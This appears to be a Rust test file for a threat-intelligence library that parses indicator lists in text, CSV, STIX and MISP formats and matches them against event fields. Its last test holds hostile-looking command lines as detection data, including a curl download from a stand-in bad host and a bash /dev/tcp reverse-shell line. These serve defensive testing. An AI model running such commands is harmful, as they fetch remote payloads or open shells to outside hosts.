//! Lists in each form, with what becomes of every line, and what events have of them.

use std::fmt::Write as _;

use expect_test::{Expect, expect};
use tuxmon_intel::{Indicators, List, Origin};

/// What a list holds and what is said about it.
fn read(file: &str, text: &str) -> String {
    let (list, diagnostics) = List::read(Origin { file, source: "test", expires: None }, text);
    let mut out = String::new();
    for one in &list.indicators {
        let until = one.expires.map_or_else(String::new, |until| format!(" until {until}"));
        writeln!(out, "{} {}{until} | {}", one.kind.word(), one.value, one.note)
            .expect("a String takes everything");
    }
    for one in &diagnostics {
        writeln!(out, "{one}").expect("a String takes everything");
    }
    out
}

#[track_caller]
fn check(file: &str, text: &str, expected: &Expect) {
    expected.assert_eq(&read(file, text));
}

#[test]
fn plain_text_has_a_value_on_each_line() {
    let text = "# a list\n\n192.0.2.7\n198.51.100.0/24 a network\nhxxp://evil[.]example/a # seen in May\n\
                0.0.0.0 ads.example\nnonsense\n44D88612FEA8A8F36DE82E1278ABB02F,eicar\n";
    check(
        "list.txt",
        text,
        &expect![[r#"
            ip 192.0.2.7 | 
            cidr 198.51.100.0/24 | a network
            url http://evil.example/a | seen in May
            domain ads.example | 
            hash 44d88612fea8a8f36de82e1278abb02f | eicar
            list.txt:7:1: warning: 'nonsense' is no hash, address, network, domain or URL [not-an-indicator]
              help: one value a line; a comment begins with #
        "#]],
    );
}

#[test]
fn columns_may_have_names() {
    let text = "type,indicator,valid_until,description\n\
                domain,evil.example,2026-12-31,\"a name, with a comma\"\n\
                ip:port,192.0.2.7:443,2026-12-31T12:00:00Z,\n\
                md5,evil.example,,not a hash\n\
                url,http://evil.example/x,soon,\n";
    check(
        "feed",
        text,
        &expect![[r#"
            domain evil.example until 1798675200000 | a name, with a comma
            ip 192.0.2.7 until 1798718400000 | 
            url http://evil.example/x | 
            feed:4:1: warning: 'evil.example' is no hash, address, network, domain or URL [not-an-indicator]
              help: name the column with the values 'indicator' in the first line
            feed:5:1: warning: 'soon' is no time; this indicator never expires [not-a-time]
              help: 2026-12-31 or 2026-12-31T00:00:00Z
        "#]],
    );
}

#[test]
fn columns_may_have_their_names_in_a_comment_or_none() {
    let text = "# made by somebody\n# \"first_seen\",\"ioc_value\",\"ioc_type\"\n\"2026-01-01\",\"evil.example\",\"domain\"\n";
    check(
        "feed.csv",
        text,
        &expect![[r#"
        domain evil.example | 
    "#]],
    );
    check(
        "feed.csv",
        "1,192.0.2.7,x\n2,nothing,y\n",
        &expect![[r#"
        ip 192.0.2.7 | 
        feed.csv:2:1: warning: '2' is no hash, address, network, domain or URL [not-an-indicator]
          help: name the column with the values 'indicator' in the first line
    "#]],
    );
}

#[test]
fn stix_patterns_are_taken_when_any_value_is_enough() {
    let text = r#"{"type": "bundle", "id": "bundle--1", "objects": [
{"type": "identity", "id": "identity--1"},
{"type": "indicator", "id": "indicator--1", "name": "dropper", "pattern_type": "stix", "valid_until": "2027-01-01T00:00:00Z",
 "pattern": "[file:hashes.'SHA-256' = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f' OR file:hashes.MD5 = '44d88612fea8a8f36de82e1278abb02f']"},
{"type": "indicator", "id": "indicator--2", "name": "c2", "pattern_type": "stix", "pattern": "[ipv4-addr:value = '192.0.2.0/28'] OR [domain-name:value IN ('evil.example', 'worse.example')]"},
{"type": "indicator", "id": "indicator--3", "pattern_type": "stix", "pattern": "[ipv4-addr:value = '192.0.2.9' AND network-traffic:dst_port = 443]"},
{"type": "indicator", "id": "indicator--4", "pattern_type": "stix", "pattern": "[file:name = 'evil']"},
{"type": "indicator", "id": "indicator--5", "pattern_type": "stix", "pattern": "[url:value MATCHES 'evil']"},
{"type": "indicator", "id": "indicator--6", "pattern_type": "yara", "pattern": "rule x {}"},
{"type": "indicator", "id": "indicator--7", "revoked": true, "pattern": "[ipv4-addr:value = '192.0.2.10']"}
]}"#;
    check(
        "bundle.json",
        text,
        &expect![[r#"
            hash 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f until 1798761600000 | dropper
            hash 44d88612fea8a8f36de82e1278abb02f until 1798761600000 | dropper
            cidr 192.0.2.0/28 | c2
            domain evil.example | c2
            domain worse.example | c2
            bundle.json:6:1: warning: the pattern [ipv4-addr:value = '192.0.2.9' AND network-traffic:dst_port = 443] asks AND at once, so none of its values means it alone [stix-pattern]
              help: split it into indicators of one value each
            bundle.json:7:1: warning: file:name = 'evil' is nothing that events have [stix-pattern]
              help: hashes, addresses, domains and URLs are compared
            bundle.json:8:1: warning: the pattern [url:value MATCHES 'evil'] asks MATCHES, and only equality is understood [stix-pattern]
              help: split it into indicators of one value each
            bundle.json:9:1: warning: its pattern is written in yara, not in STIX [stix-pattern]
        "#]],
    );
}

#[test]
fn misp_attributes_are_taken_when_they_are_meant_for_detection() {
    let text = r#"{"response": [{"Event": {"info": "a campaign", "Attribute": [
{"type": "ip-dst|port", "value": "192.0.2.7|443", "to_ids": true, "uuid": "a"},
{"type": "domain|ip", "value": "evil.example|192.0.2.8", "to_ids": true, "comment": "c2", "uuid": "b"},
{"type": "md5", "value": "nonsense", "to_ids": true, "uuid": "0f-c"},
{"type": "comment", "value": "a remark", "to_ids": false},
{"type": "ip-dst", "value": "192.0.2.9", "to_ids": false}],
"Object": [{"name": "file", "Attribute": [{"type": "filename|sha1", "value": "x|da39a3ee5e6b4b0d3255bfef95601890afd80709", "to_ids": true}]}]
}}]}"#;
    check(
        "misp.json",
        text,
        &expect![[r#"
            hash da39a3ee5e6b4b0d3255bfef95601890afd80709 | a campaign
            ip 192.0.2.7 | a campaign
            domain evil.example | c2
            ip 192.0.2.8 | c2
            misp.json:4:1: warning: 'nonsense' is no hash [not-an-indicator]
        "#]],
    );
}

#[test]
fn broken_lists_are_told_and_never_fatal() {
    for (file, text) in [
        ("a.json", "{\"type\": \"bundle\""),
        ("b.json", "[]"),
        ("c.csv", "\"never ends"),
        ("d.csv", "#\n#"),
        ("e", "\u{feff}"),
        ("f.json", "{\"objects\": [{\"type\": \"indicator\", \"pattern\": \"['\"}]}"),
    ] {
        let _ = read(file, text);
    }
    check(
        "a.json",
        "{\"type\": \"bundle\"",
        &expect![[r#"
        a.json:1:1: warning: this is no JSON: EOF while parsing an object at line 1 column 17 [broken-json]
    "#]],
    );
}

/// Every list of this file, cut short at each place and with each byte changed, is read to an end.
#[test]
fn mutilated_lists_are_never_fatal() {
    let samples = [
        ("a.txt", "hxxp://evil[.]example/a # seen\n0.0.0.0 ads.example\n192.0.2.7/24 x\n"),
        ("b.csv", "# x\ntype,indicator,valid_until\nip:port,\"192.0.2.7:443\",2026-12-31\n\"a\"\"b\",\n"),
        (
            "c.json",
            r#"{"objects": [{"type": "indicator", "id": "i", "pattern": "[file:hashes.'MD5' IN ('a', 'b')] OR [url:value = 'x']"}]}"#,
        ),
        (
            "d.json",
            r#"{"Event": {"Attribute": [{"type": "domain|ip", "value": "evil.example|192.0.2.8", "uuid": "u"}]}}"#,
        ),
    ];
    let mut read_to_the_end = 0;
    for (file, text) in samples {
        for place in 0..text.len() {
            read(file, &text[..place]);
            for byte in [b'\'', b'"', b'[', b'\n', b'/', 0] {
                let mut changed = text.as_bytes().to_vec();
                changed[place] = byte;
                read(file, &String::from_utf8_lossy(&changed));
                read_to_the_end += 1;
            }
        }
    }
    let expected: usize = samples.iter().map(|(_, text)| text.len() * 6).sum();
    assert_eq!(read_to_the_end, expected);
}

#[test]
fn events_have_what_lists_name() {
    let text = "192.0.2.0/24\n192.0.2.7\n2001:db8::/32\nevil.example\nhttp://bad.example/Drop\n\
                275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f eicar\n";
    let (list, diagnostics) = List::read(Origin { file: "l", source: "l", expires: Some(1000) }, text);
    assert_eq!(diagnostics, []);
    let indicators = Indicators::new(vec![list]);
    let found = |fields: &[(&'static str, &str)], now: i64| -> Vec<String> {
        indicators
            .of_event(fields, now)
            .iter()
            .map(|hit| format!("{} {}", hit.field, hit.indicator.value))
            .collect()
    };
    let hashes = "MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F";
    assert_eq!(
        found(&[("Hashes", hashes)], 0),
        ["Hashes 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"]
    );
    assert_eq!(found(&[("DestinationIp", "192.0.2.7")], 0), ["DestinationIp 192.0.2.7"]);
    assert_eq!(found(&[("DestinationIp", "0:0:0:0:0:ffff:c000:0208")], 0), ["DestinationIp 192.0.2.0/24"]);
    assert_eq!(found(&[("SourceIp", "2001:db8:0:0:0:0:0:a0")], 0), ["SourceIp 2001:db8::/32"]);
    assert_eq!(
        found(&[("DestinationHostname", "www.EVIL.example")], 0),
        ["DestinationHostname evil.example"]
    );
    assert_eq!(found(&[("DestinationHostname", "notevil.example")], 0), Vec::<String>::new());
    assert_eq!(
        found(&[("CommandLine", "curl -o x 'http://Bad.example/Drop' evil.example:80/y")], 0),
        ["CommandLine http://bad.example/Drop", "CommandLine evil.example"]
    );
    assert_eq!(
        found(&[("CommandLine", "bash -c 'exec 3<>/dev/tcp/192.0.2.9/4444'")], 0),
        ["CommandLine 192.0.2.0/24"]
    );
    assert_eq!(found(&[("CommandLine", "ssh root@192.0.2.7")], 0), ["CommandLine 192.0.2.7"]);
    assert_eq!(found(&[("Image", "/usr/bin/evil.example")], 0), Vec::<String>::new());
    assert_eq!(found(&[("DestinationIp", "192.0.2.7")], 1000), Vec::<String>::new(), "it has expired");
}
